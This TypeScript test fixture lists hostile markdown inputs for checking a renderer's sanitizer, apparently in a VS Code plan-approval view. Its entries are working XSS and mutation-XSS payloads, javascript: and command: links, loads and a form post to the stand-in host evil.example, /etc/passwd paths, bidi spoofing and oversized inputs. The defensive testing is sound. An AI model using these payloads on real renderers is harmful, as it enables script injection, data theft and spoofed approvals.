// Plans that try to run, load, navigate, restyle or mislead. Each would set `window.owned`, ask the network or move the page.
export interface HostilePlan {
  readonly name: string
  readonly markdown: string
}

const away = 'https://evil.example'
const run = 'window.owned=1'

export const hostilePlans: readonly HostilePlan[] = [
  { name: 'script element', markdown: `<script>${run}</script>\n\n<script src="${away}/a.js"></script>` },
  { name: 'image handler', markdown: `<img src=x onerror="${run}">` },
  {
    name: 'svg handler',
    markdown: `<svg onload="${run}"><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
  },
  { name: 'svg script', markdown: `<svg><script href="${away}/x.js">${run}</script></svg>` },
  { name: 'svg use', markdown: `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>` },
  { name: 'focus handler', markdown: `<input autofocus onfocus="${run}"><details open ontoggle="${run}">x</details>` },
  {
    name: 'media',
    markdown: `<video src="${away}/v" onloadstart="${run}"></video><audio src="${away}/a" autoplay></audio>`,
  },
  {
    name: 'iframe',
    markdown: `<iframe src="${away}"></iframe><iframe srcdoc="<script>parent.owned=1</script>"></iframe>`,
  },
  { name: 'object and embed', markdown: `<object data="${away}/o"></object><embed src="${away}/e"><applet code=x>` },
  { name: 'meta refresh', markdown: `<meta http-equiv="refresh" content="0;url=${away}">` },
  { name: 'base', markdown: `<base href="${away}/">\n\n[relative](a.ts)` },
  {
    name: 'stylesheet',
    markdown: `<link rel="stylesheet" href="${away}/s.css"><style>@import "${away}/i.css"; main{display:none}</style>`,
  },
  {
    name: 'style attribute',
    markdown: `<p style="position:fixed;inset:0;background:url(${away}/b)">over everything</p>`,
  },
  { name: 'form', markdown: `<form action="${away}"><input name="key"><button>Approve</button></form>` },
  {
    name: 'clobbering',
    markdown: '<a id="host"></a><form name="document"><input name="body"></form>\n\n# acquireVsCodeApi\n\n# approve',
  },
  {
    name: 'template and math',
    markdown: `<template><script>${run}</script></template><math><mtext><mglyph><style><img src=x onerror=${run}></style></mglyph></mtext></math>`,
  },
  { name: 'mutation by noscript', markdown: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>` },
  { name: 'mutation by svg style', markdown: `<svg></p><style><a id="</style><img src=1 onerror=${run}>"></svg>` },
  {
    name: 'mutation by math',
    markdown: `<math><mi//xlink:href="data:x,<script>${run}</script>"><form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  },
  {
    name: 'mutation by comment',
    markdown: `<!--><img src=x onerror=${run}>--> <![CDATA[><img src=x onerror=${run}>]]>`,
  },
  {
    name: 'javascript link',
    markdown: `[click](javascript:${run}) <javascript:${run}> [tab](java\tscript:${run}) [case](JaVaScRiPt:${run})`,
  },
  {
    name: 'javascript link by entities',
    markdown: `[a](&#106;avascript:${run}) [b](javascript&colon;${run}) [c](&#x6A;&#x61;vascript&#58;${run}) [d](%6Aavascript:${run})`,
  },
  { name: 'javascript reference', markdown: `[click][x]\n\n[x]: javascript:${run} "title"` },
  {
    name: 'command link',
    markdown:
      '[Approve](command:planMode.approve) [b](vscode://evil.ext/run) [c](vscode-insiders:x) [d](vscode-command:x)',
  },
  {
    name: 'data and file links',
    markdown: `[a](data:text/html,<script>${run}</script>) [b](file:///etc/passwd) [c](blob:${away}/x) [d](about:blank)`,
  },
  {
    name: 'paths out of the workspace',
    markdown:
      '[a](../../etc/passwd) [b](/etc/passwd) [c](~/x) [d](\\\\host\\share) [e](//evil.example/x) [f](a/%2e%2e/%2e%2e/b)',
  },
  {
    name: 'remote images',
    markdown: `![one](${away}/1.png) ![two][i] [![three](${away}/3.png)](${away})\n\n[i]: ${away}/2.png`,
  },
  {
    name: 'image with data and handler',
    markdown: `![x](data:image/svg+xml,<svg/onload=${run}>) ![" onerror="${run}](x)`,
  },
  {
    name: 'attribute breakout',
    markdown: `[a](${away}/"onmouseover="${run}) [b](<${away}/x" onclick="${run}>) [c](a.ts '"><img src=x onerror=${run}>')`,
  },
  {
    name: 'fence breakout',
    markdown: `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\`\n\n\`\`\`html\n<script>${run}</script>\n\`\`\`\n\n\`</code><img src=x onerror=${run}>\``,
  },
  {
    name: 'table breakout',
    markdown: `| a |\n| - |\n| <img src=x onerror=${run}> |\n| </td></table><script>${run}</script> |`,
  },
  {
    name: 'bidirectional text',
    markdown:
      'Set `isAdmin\u202e // tsil \u2066eht\u2069 ni` and \u202emoc.live\u202c [safe\u2067](https://example.com/\u202egpj.exe)',
  },
  {
    name: 'deep nesting',
    markdown: `${'> '.repeat(3000)}deep\n\n${'- '.repeat(500)}deep\n\n${'['.repeat(3000)}x${']'.repeat(3000)}\n\n${'*'.repeat(5000)}`,
  },
  {
    name: 'huge table',
    markdown: `|${' h |'.repeat(60)}\n|${' - |'.repeat(60)}\n${`|${' c |'.repeat(60)}\n`.repeat(300)}`,
  },
  { name: 'one endless line', markdown: 'a'.repeat(200_000) },
  {
    name: 'null and control characters',
    markdown: `<img\u0000 src=x onerror=${run}> [a](java\u0000script:${run}) \u0001\u001b[31m`,
  },
]
